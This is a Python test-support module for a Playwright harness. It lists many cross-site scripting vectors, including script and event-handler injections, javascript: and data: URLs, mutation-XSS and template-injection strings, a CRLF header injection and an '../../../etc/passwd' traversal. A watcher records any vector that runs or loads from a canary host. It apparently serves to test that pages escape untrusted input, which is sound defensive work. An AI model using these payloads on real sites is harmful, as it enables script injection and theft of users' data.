"""Text that would run in a page that doesn't escape it, and a watch that notices if any does.

In a vector, RUN stands for a call that the watch hears, URL for an address that it hears, N for its number.
"""

from __future__ import annotations

import base64
from contextlib import asynccontextmanager

from playwright.async_api import async_playwright

CANARY = "canary.test"

RUNS = r"""
<script>RUN</script>
<SCRIPT >RUN</SCRIPT >
<script/x>RUN</script>
<script>/*<!--*/RUN</script>
<script src="URL"></script>
</title><script>RUN</script>
</script><script>RUN</script>
</style><script>RUN</script>
</textarea><script>RUN</script>
</iframe><script>RUN</script>
--><script>RUN</script>
]]><script>RUN</script>
"><script>RUN</script>
'><script>RUN</script>
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<IMG SRC=x OnErRoR=RUN>
<img src=x onerror=&#x5f;&#95;xss(N)>
<img src=x onerror=eval("\x5f\x5fxss(N)")>
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
`><img src=x onerror=RUN>
=><img src=x onerror=RUN>
<img src=URL>
<img srcset=URL>
<img src=x:x style="background:url(URL)">
<table background=URL><td>x
<input type=image src=URL>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href="URL"/></svg>
<svg><image href=URL></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><a><text y=9>x</text><animate attributeName=href values=javascript:RUN onbegin=RUN /></a></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=RUN>">
<math><mtext></mtext><img src=x onerror=RUN></math>
<body onload=RUN>
<details open ontoggle=RUN>x
<video><source onerror=RUN></video>
<video src=x onerror=RUN></video>
<audio src=x onerror=RUN></audio>
<iframe onload=RUN></iframe>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe src="javascript:RUN"></iframe>
<iframe src=URL></iframe>
<object data=URL></object>
<embed src=URL>
<style onload=RUN></style>
<style>@import 'URL';</style>
<style>*{background:url(URL)}</style>
<style>@keyframes a{}</style><b style="animation:a 1ms" onanimationstart=RUN>x</b>
<link rel=stylesheet href=URL>
<link rel=stylesheet href=x onerror=RUN>
<link rel=prefetch href=URL>
<xss tabindex=1 style="animation:b 1ms" onfocus=RUN autofocus>x</xss>
<meta http-equiv=refresh content="0;url=URL">
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<textarea><img title="</textarea><img src=x onerror=RUN>">
<xmp><img alt="</xmp><img src=x onerror=RUN>"></xmp>
<title><img alt="</title><img src=x onerror=RUN>"></title>
<!--><img src=x onerror=RUN>-->
<!-- --!><img src=x onerror=RUN>-->
<?xml version="1.0"?><img src=x onerror=RUN>
<template shadowrootmode=open></template><img src=x onerror=RUN>
%3Cscript%3E<img src=x onerror=RUN>
{{7*7}}<img src=x onerror=RUN>
{{'x'|safe}}{% raw %}<img src=x onerror=RUN>
""".strip().splitlines()
"""They do so wherever they stand as markup: a control shows that."""

QUIET = r"""
<img/src=x/onerror=RUN>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<base href=URL><img src=x>
<![CDATA[<img src=x onerror=RUN>]]>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<b/onclick=1 <img src=x onerror=RUN>>
<a href="javascript:RUN">press me</a>
<a href="jav&#x09;ascript:RUN">press me</a>
<a href=" &#14; javascript:RUN">press me</a>
<a href="data:text/html,<script>RUN</script>">press me</a>
<a href="#" ping=URL>press me</a>
<svg><a xlink:href="javascript:RUN"><text y=20>press me</text></a></svg>
<math><a xlink:href="javascript:RUN">press me</a></math>
<form action="javascript:RUN"><input type=submit></form>
<form id=f></form><button form=f formaction="javascript:RUN">x</button>
<template><img src=x onerror=RUN></template>
<scr<script>ipt>RUN</scr</script>ipt>
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<p id="&lt;img src=x onerror=RUN&gt;">
<form id=app><input name=classList><input name=dataset></form>
<img name=getElementById><img id=messages><a id=toasts href=URL>
" onmouseover="RUN" x="
' onmouseover='RUN' x='
` onmouseover=RUN x=`
" autofocus onfocus="RUN" x="
 src=x onerror=RUN x=
javascript:RUN
JaVaScRiPt:RUN
javascript://%0aRUN
javascript://x.test/%0aRUN//https://x.test/
vbscript:RUN
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>
//canary.test/N
https://x.test/"onmouseover="RUN
https://x.test/'><script>RUN</script>
https://x.test/<img src=x onerror=RUN>
https://x.test\@canary.test/#"><b>
http://[::1]:1/files/0123456789abcdef0123456789abcdef/../../x
{{constructor.constructor('RUN')()}}
${RUN}
#{RUN}
<%= RUN %>
[[${RUN}]]
{{7*7}}{%print(7*7)%}
';RUN;//
";RUN;//
\";RUN;//
]});RUN;({[
\u003cimg src=x onerror=RUN\u003e
%3Cscript%3ERUN%3C%2Fscript%3E
&lt;script&gt;RUN&lt;/script&gt;
&#60;img src=x onerror=RUN&#62;
+ADw-script+AD4-RUN+ADw-/script+AD4-
x;background:url(URL);y:expression(RUN)
}*{background:url(URL)}
\3c img src=x onerror=RUN\3e
__proto__
constructor
toString
../../../etc/passwd
""".strip("\n").splitlines()

ODD = [
    "<\0script>RUN</script>",
    "<img src=x onerror\0=RUN>",
    "java\tscript:RUN",
    "java\nscript:RUN",
    "\x01javascript:RUN",
    "\u202e<script>RUN</script>\u202c",
    '\u2066\u200f"><img src=x onerror=RUN>',
    "\ufeff<script>RUN</script>",
    "\u2028RUN\u2029",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "x\r\nset-cookie: a=b\r\n\r\n<script>RUN</script>",
    "<img src=x\nonerror\n=\nRUN>",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467<img src=x onerror=RUN>",
    "Z\u0351\u036b\u0343" + "\u0300" * 20,
    "\ud7ff\ue000\ufffe\uffff",
]


def vectors():
    """Return every vector, each with its number in it."""
    return [
        one.replace("RUN", f"__xss({number})")
        .replace("URL", f"//{CANARY}/{number}")
        .replace("N)", f"{number})")
        for number, one in enumerate(RUNS + QUIET + ODD)
    ]


def encoded_word(text):
    """Return a text as a mail's header can hold it."""
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


SUSPECTS = """(html) => {
  const page = html ? new DOMParser().parseFromString(html, "text/html") : document;
  const address = html ? "http://127.0.0.1/" : location.href;
  const bad = [];
  for (const node of page.querySelectorAll("*")) {
    const tag = node.localName;
    const told = node.outerHTML.slice(0, 150);
    if (["object", "embed", "base", "style", "template", "math", "video", "audio"].includes(tag) ||
        (tag === "meta" && node.httpEquiv) || (tag === "script" && !node.src)
        || (tag === "iframe" && node.id !== "frame") || node.shadowRoot) bad.push(told);
    for (const { name, value } of node.attributes) {
      if (name.startsWith("on")) bad.push(told);
      if (!["href", "src", "action", "formaction", "xlink:href", "srcset", "ping"].includes(name)) continue;
      const url = new URL(value, address);
      const own = url.origin === new URL(address).origin;
      if (!["http:", "https:"].includes(url.protocol) || (tag !== "a" && !own)) bad.push(told);
    }
  }
  return bad;
}"""
"""What no page of ours has: code, or something that loads from elsewhere, in an element."""


class Watch:
    """What happened that shouldn't: a vector ran, loaded something, or the browser had to stop it."""

    def __init__(self, context):
        self.context = context
        self.heard = set()
        self.complaints = []

    async def begin(self):
        await self.context.expose_binding("__xss", lambda source, number: self._run(number))
        await self.context.route(lambda url: "127.0.0.1" not in url, self._elsewhere)
        self.context.on("page", self._follow)

    async def look(self, page):
        """Look for what could run in a page, though it hasn't."""
        self.complaints += [f"in the page: {one}" for one in await page.evaluate(SUSPECTS)]

    async def read(self, sources):
        """Look for the same in pages that are only parsed, which is quicker."""
        page = await self.context.new_page()
        for source in sources:
            self.complaints += [f"in a source: {one}" for one in await page.evaluate(SUSPECTS, source)]
        await page.close()

    def nothing(self):
        """Tell whether nothing happened."""
        return not self.heard and not self.complaints

    def _run(self, number):
        self.heard.add(number)

    async def _elsewhere(self, route):
        number = route.request.url.rstrip("/").rpartition("/")[2]
        self.heard.add(int(number) if number.isdigit() else route.request.url)
        await route.fulfill(status=200, body="", content_type="text/plain")

    def _follow(self, page):
        page.on("console", lambda said: self.complaints.append(f"console: {said.text}"))
        page.on("pageerror", lambda error: self.complaints.append(f"error: {error}"))
        page.on("dialog", lambda dialog: self.complaints.append(f"dialog: {dialog.message}"))


@asynccontextmanager
async def watched(chromium, **options):
    """Give a watch over a browser of its own."""
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=chromium, **options)
        context = await browser.new_context()
        watch = Watch(context)
        await watch.begin()
        yield watch
        await browser.close()
